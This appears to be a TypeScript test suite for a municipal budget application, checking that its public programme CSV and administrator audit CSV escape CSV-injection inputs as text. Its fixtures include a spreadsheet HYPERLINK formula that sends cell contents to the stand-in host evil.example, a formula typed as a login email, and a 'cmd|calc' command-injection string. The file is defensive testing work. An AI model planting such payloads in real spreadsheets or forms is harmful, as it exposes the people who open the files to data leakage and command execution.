import type { Knex } from 'knex';
import { testDatabase } from '../../test/helpers/database';
import { signIn, startTestApp } from '../../test/helpers/http';

const commune = '99061';

/**
 * CSV injection (OWASP): a text a stranger typed (a login email) or a file brought in (a programme name) must reach
 * the agent's Excel as text, never as a formula. Real HTTP, real rows, the real exports.
 */
describe('CSV exports that Excel cannot turn into formulas', () => {
  let api: Awaited<ReturnType<typeof startTestApp>>;
  let db: Knex;

  beforeAll(async () => {
    db = (await testDatabase()).knex;
    api = await startTestApp();
    await db('communes').insert({ insee_code: commune, name: 'Formuleville' });
    const programme = { commune_insee: commune, ap_amount_eur: 100_000, start_date: '2024-01-01' };
    await db('programmes').insert([
      // expected 39 days before the planned end (28 days of February + 11): a genuine negative slippage
      {
        ...programme,
        programme_id: 'P1',
        name: '=HYPERLINK("http://evil.example/?x="&A1;"Voir")',
        planned_end_date: '2025-03-12',
        expected_end_date: '2025-02-01',
      },
      { ...programme, programme_id: 'P2', name: '+33 6 12 34 56 78', planned_end_date: '2025-06-30' },
      { ...programme, programme_id: 'P3', name: '-2+3', planned_end_date: '2025-06-30' },
      { ...programme, programme_id: 'P4', name: '@SUM(1,2)', planned_end_date: '2025-06-30' },
      { ...programme, programme_id: 'P5', name: '\tcmd|calc', planned_end_date: '2025-06-30' },
      { ...programme, programme_id: 'P6', name: 'École Jules-Ferry', planned_end_date: '2025-06-30' },
    ]);
  });
  afterAll(async () => {
    await api.close();
    await db('programmes').where({ commune_insee: commune }).delete();
    await db('audit_log').where('actor', 'like', '%evil.example%').delete();
    await db('communes').where({ insee_code: commune }).delete();
  });

  /** The CSV's data lines as cells (the files use `;`, quotes around cells that need them). */
  const cellsOf = (csv: string) =>
    csv
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n')
      .map((line) => line.match(/("([^"]|"")*"|[^;]*)(;|$)/g)!.map((cell) => cell.replace(/;$/, '')));

  it('keeps imported labels that look like formulas as text in a public CSV, and negative numbers as numbers', async () => {
    const response = await fetch(`${api.base}/budget/programmes?commune=${commune}&format=csv`);
    expect(response.status).toBe(200);
    const [header, ...rows] = cellsOf(await response.text());
    const [name, days, months] = ['Intitulé', 'Glissement (jours)', 'Glissement (mois)'].map((h) => header.indexOf(h));
    const byId = Object.fromEntries(rows.map((row) => [row[header.indexOf('N° AP')], row]));

    expect(byId['P1'][name]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Voir"")"`);
    expect(byId['P2'][name]).toBe("'+33 6 12 34 56 78");
    expect(byId['P3'][name]).toBe("'-2+3");
    expect(byId['P4'][name]).toBe("'@SUM(1,2)");
    expect(byId['P5'][name]).toBe("'\tcmd|calc");
    expect(byId['P6'][name]).toBe('École Jules-Ferry');
    expect([byId['P1'][days], byId['P1'][months]])
      .withContext('negative numbers stay numbers')
      .toEqual(['-39', '-1,3']);
  });

  it("keeps a formula typed as a login email as text in the administrator's audit CSV", async () => {
    const email = '=HYPERLINK("http://evil.example/","Cliquez ici")';
    const failed = await fetch(`${api.base}/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email, password: 'whatever' }),
    });
    expect(failed.status).toBe(401);

    const admin = await signIn(api.base, 'admin');
    const response = await fetch(`${api.base}/audit?action=login.failed&format=csv`, { headers: admin });
    const csv = await response.text();
    expect(response.status).toBe(200);
    expect(csv).toContain(`"'=hyperlink(""http://evil.example/"",""cliquez ici"")"`);
    expect(csv).not.toMatch(/(^|;|\r\n)"?=hyperlink/i);
  });
});
